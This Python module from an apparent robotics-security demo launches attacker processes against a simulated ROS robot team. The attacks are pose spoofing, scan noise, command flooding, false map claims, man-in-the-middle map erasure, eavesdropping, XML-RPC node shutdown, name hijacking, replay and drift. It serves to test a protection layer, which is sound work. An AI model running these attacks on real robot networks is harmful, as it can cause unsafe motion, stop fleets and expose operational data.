"""The demo's attackers, each a separate process built on the toolkit (:mod:`cryptoros.attack.lib`).

``python -m cryptoros.demo.attackers CONFIG.json`` runs one attack against the live
graph until its duration ends or SIGTERM, then writes what it did and what it saw
(the attacker's view; success is judged from the victims' side by
:mod:`cryptoros.demo.run`).
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import json
import signal
import sys
import time
from pathlib import Path
from typing import Any

import numpy as np

from cryptoros.attack import lib
from cryptoros.sim import packets as P

#: name -> (seed paper, what it does, target robot index, who attacks in protected mode)
ATTACKS: dict[str, dict[str, Any]] = {
    "spoof-pose": {"seed": "001", "what": "spoofed position published on /{t}/pose at 200 Hz", "target": 0,
                   "as": "insider", "node": "/vicon_bridge"},
    "scan-noise": {"seed": "001", "what": "laser scan /{t}/scan read and republished as noise", "target": 0,
                   "as": "stranger", "node": "/scan_attacker"},
    "cmd-flood": {"seed": "001", "what": "command topic /{t}/cmd_vel flooded with stop commands (1000 Hz)",
                  "target": 0, "as": "stranger", "node": "/flooder"},
    "false-map": {"seed": "000", "what": "false 'map explored' claims on /team/map", "target": None, "as": "stranger"},
    "map-erase": {"seed": "000", "what": "map updates erased in transit (read, erased, republished ahead)",
                  "target": None, "as": "insider", "node": "/mitm"},
    "eavesdrop": {"seed": "000", "what": "every topic read and recorded to a rosbag", "target": None, "as": "stranger"},
    "shutdown": {"seed": "-", "what": "XML-RPC shutdown of node /{t}", "target": -1, "as": "insider"},
    "hijack": {"seed": "-", "what": "node-name hijack of /{t} (register the same name)", "target": 1, "as": "insider"},
    # misuse of held grants: the attacker holds the grant it abuses, so only the
    # runtime monitor can stop it. "holder" runs on the operations host, whose manager
    # (``ops``) may publish r0's pose (a motion-capture bridge, seed 001's Vicon), its scan
    # (a scan filter) and its cmd_vel (a teleop console); held-false-map is robot r1's own
    # explorer, compromised, on /team/map, which it may publish.
    "held-spoof-pose": {"seed": "001", "what": "spoofed positions on /{t}/pose at 200 Hz by the mocap bridge that may publish them",
                        "target": 0, "as": "holder", "node": "/mocap_bridge"},
    "held-replay": {"seed": "001", "what": "/{t}/pose replayed 3 s late, stamps included, by the mocap bridge",
                    "target": 0, "as": "holder", "node": "/mocap_replay"},
    "held-drift": {"seed": "001", "what": "/{t}/pose drifting by 0.1 m/s, by the mocap bridge", "target": 0, "as": "holder",
                   "node": "/mocap_drift"},
    "held-scan-noise": {"seed": "001", "what": "/{t}/scan republished as noise by the scan filter that may publish it",
                        "target": 0, "as": "holder", "node": "/scan_filter"},
    "held-cmd-flood": {"seed": "001", "what": "stop commands at 200 Hz on /{t}/cmd_vel by the teleop console that may publish them",
                       "target": 0, "as": "holder", "node": "/teleop"},
    "held-false-map": {"seed": "000", "what": "false 'map explored' claims on /team/map by robot {t}'s own explorer, compromised",
                       "target": 1, "as": "compromised"},
}
#: the misuses of a held grant (only the runtime monitor can stop them)
HELD_ATTACKS = tuple(k for k, a in ATTACKS.items() if a["as"] in ("holder", "compromised"))
#: the host of the "holder" attacks
OPS_HOST = "ops"
#: seconds of delay of held-replay
HELD_REPLAY_DELAY_S = 3.0
#: metres per second of held-drift
HELD_DRIFT_M_PER_S = 0.1
#: wall seconds the false-map claims wait after the other attacks start (see run)
FALSE_MAP_ONSET = 4.0
#: the attacks with a ROS 2 counterpart (``cryptoros demo --ros 2``, :mod:`cryptoros.demo.ros2_attackers`):
#: ``shutdown`` and ``hijack`` are ROS 1 XML-RPC; ``map-erase`` is a man in the middle inside
#: the victim's own DDS domain, which is that robot's trust zone
ROS2_ATTACKS = ("spoof-pose", "scan-noise", "cmd-flood", "false-map", "eavesdrop")


def target_of(kind: str, n: int) -> str | None:
    t = ATTACKS[kind]["target"]
    return None if t is None else f"r{t % n}"


def insider_host(kind: str, n: int) -> str:
    """The host an insider attack runs on: not its victim's (a holder's: the operations host)."""
    if ATTACKS[kind]["as"] == "holder":
        return OPS_HOST
    t = ATTACKS[kind]["target"]
    base = 0 if t is None else t % n
    return f"r{(base + 1) % n}"


async def run(cfg: dict[str, Any], stop: asyncio.Event) -> dict[str, Any]:
    kind = cfg["kind"]
    m, host, dur = cfg["master_uri"], cfg["ros_ip"], float(cfg["duration"])
    target = cfg.get("target")
    rng = np.random.default_rng(cfg.get("seed", 7))
    st = lib.store()
    W, H = int(cfg["width"]), int(cfg["height"])
    common = {"host": host, "stop": stop, "duration": dur}
    if kind == "spoof-pose":
        def pose(i: int) -> Any:  # the robot "teleports all over the map" (seed 001)
            return lib.build("geometry_msgs/PoseStamped", {
                "header": {"seq": i, "frame_id": "map"},
                "pose": {"position": {"x": float(rng.uniform(0, W * 0.2)), "y": float(rng.uniform(0, H * 0.2))},
                         "orientation": {"w": 1.0}}}, st)
        return await lib.spoof_publish(m, f"/{target}/pose", "geometry_msgs/PoseStamped", pose, rate=200.0,
                                       name=ATTACKS[kind]["node"], **common)
    if kind == "scan-noise":
        return await lib.manipulate(m, f"/{target}/scan", "sensor_msgs/LaserScan",
                                    lambda msg: lib.noise(msg, "sensor_msgs/LaserScan", rng, st, scale=3.5),
                                    name=ATTACKS[kind]["node"], **common)
    if kind == "cmd-flood":
        stop_cmd = lib.build("geometry_msgs/Twist", {}, st)  # all zero: stop
        return await lib.flood(m, f"/{target}/cmd_vel", "geometry_msgs/Twist", lambda i: stop_cmd, rate=1000.0,
                               name=ATTACKS[kind]["node"], **common)
    if kind == "false-map":
        # The false "map explored" claim stops the whole team; it comes FALSE_MAP_ONSET s after
        # the other attacks, so their effect on the robots' motion (a halted base, a spoofed
        # pose) shows before the team stands still, however the processes' start-up races.
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(stop.wait(), FALSE_MAP_ONSET)
        if stop.is_set():
            return {"verb": "spoof-publish", "topic": "/team/map", "sent": 0, "interrupted": True}
        common = {**common, "duration": max(0.5, dur - FALSE_MAP_ONSET)}
        t0 = time.time()

        def claim(i: int) -> Any:  # seed 000's impersonation: every cell free, exploration complete
            return P.make(P.MAP, source="mal0", seq=i + 1, timestamp=(time.time() - t0) * 100.0, position=P.Point(W * 0.1, H * 0.1),
                          goal=P.Point(W * 0.1, H * 0.1), exploration_complete=True, origin_x=0, origin_y=0, width=W,
                          height=H, data=np.zeros(W * H, dtype=np.int8))
        return await lib.spoof_publish(m, "/team/map", P.MAP, claim, rate=2.0, name="/mal0", **common)
    if kind == "map-erase":
        def erase(msg: Any) -> Any:  # seed 000's MITM: data erased, goal = position, seq pushed ahead
            if msg.source not in cfg["team"]:
                return None
            return P.replace(msg, data=np.full(len(msg.data), -1, dtype=np.int8), goal=msg.position, seq=msg.seq + 1000,
                             timestamp=msg.timestamp + 1e-3)
        return await lib.manipulate(m, "/team/map", P.MAP, erase, name=ATTACKS[kind]["node"], **common)
    if kind == "eavesdrop":
        positions: dict[str, list[float]] = {}
        cells: set[int] = set()

        def seen(topic: str, typename: str, data: bytes) -> None:
            with contextlib.suppress(Exception):
                if topic == "/team/hello":
                    h = P.decode(data, P.HELLO)
                    positions[h.source] = [round(h.position.x, 2), round(h.position.y, 2)]
                elif topic == "/team/map":
                    u = P.decode(data, P.MAP)
                    if u.source not in cfg["team"]:
                        return  # another attacker's false claim is not the team's map
                    d = np.asarray(u.data).reshape(int(u.height), int(u.width))
                    rr, cc = np.nonzero(d != -1)
                    cells.update(((rr + int(u.origin_y)) * W + (cc + int(u.origin_x))).tolist())

        rep = await lib.eavesdrop(m, bag=cfg.get("bag"), name="/eavesdropper", on_message=seen, **common)
        rep["positions_read"] = positions
        rep["map_cells_read"] = len(cells)
        rep["map_share_read"] = round(len(cells) / float(W * H), 4)
        return rep
    if kind in ("held-spoof-pose", "held-replay", "held-drift", "held-scan-noise", "held-cmd-flood"):
        return await _held(kind, cfg, rng, st, common)
    if kind == "shutdown":
        await asyncio.sleep(0)
        return await lib.shutdown(m, f"/{target}", host=host, reason="cryptoros demo attack")
    if kind == "hijack":
        return await lib.hijack_name(m, f"/{target}", topic="/hijacked", **common)
    raise SystemExit(f"unknown attack {kind}")


async def _held(kind: str, cfg: dict[str, Any], rng: np.random.Generator, st: Any, common: dict[str, Any]) -> dict[str, Any]:
    """A node that holds the grant it misuses (see :data:`ATTACKS`)."""
    m, target, name = cfg["master_uri"], cfg["target"], ATTACKS[kind]["node"]
    W, H = int(cfg["width"]), int(cfg["height"])
    pose_t = "geometry_msgs/PoseStamped"
    if kind == "held-spoof-pose":
        def pose(i: int) -> Any:
            now = time.time()
            return lib.build(pose_t, {
                "header": {"seq": i, "stamp": {"sec": int(now), "nanosec": int(now % 1 * 1e9)}, "frame_id": "map"},
                "pose": {"position": {"x": float(rng.uniform(0, W * 0.2)), "y": float(rng.uniform(0, H * 0.2))},
                         "orientation": {"w": 1.0}}}, st)
        return await lib.spoof_publish(m, f"/{target}/pose", pose_t, pose, rate=200.0, name=name, **common)
    if kind == "held-cmd-flood":
        stop_cmd = lib.build("geometry_msgs/Twist", {}, st)
        return await lib.flood(m, f"/{target}/cmd_vel", "geometry_msgs/Twist", lambda i: stop_cmd, rate=200.0, name=name,
                               **common)
    if kind == "held-scan-noise":
        return await lib.manipulate(m, f"/{target}/scan", "sensor_msgs/LaserScan",
                                    lambda msg: lib.noise(msg, "sensor_msgs/LaserScan", rng, st, scale=3.5),
                                    name=name, **common)
    started = time.time()
    history: collections.deque[tuple[float, Any]] = collections.deque()

    def alter(msg: Any) -> Any:
        now = time.time()
        if kind == "held-drift":
            p = msg.pose.position
            moved = type(p)(x=p.x + HELD_DRIFT_M_PER_S * (now - started), y=p.y, z=p.z)
            return type(msg)(header=msg.header, pose=type(msg.pose)(position=moved, orientation=msg.pose.orientation))
        history.append((now, msg))  # held-replay: what the pose said HELD_REPLAY_DELAY_S ago
        old = None
        while history and history[0][0] <= now - HELD_REPLAY_DELAY_S:
            old = history.popleft()[1]
        return old
    return await lib.manipulate(m, f"/{target}/pose", pose_t, alter, name=name, **common)


def main() -> None:
    cfg = json.loads(Path(sys.argv[1]).read_text())
    out = Path(cfg["report"])

    async def go() -> dict[str, Any]:
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, stop.set)
        started = time.time()
        try:
            rep = await asyncio.wait_for(run(cfg, stop), float(cfg["duration"]) + 30)
        except Exception as exc:
            rep = {"refused": f"{type(exc).__name__}: {exc}"}
        rep["kind"] = cfg["kind"]
        rep["wall_s"] = round(time.time() - started, 2)
        return rep

    rep = asyncio.run(go())
    tmp = out.with_suffix(".tmp")
    tmp.write_text(json.dumps(rep, default=str))
    tmp.replace(out)


if __name__ == "__main__":
    main()
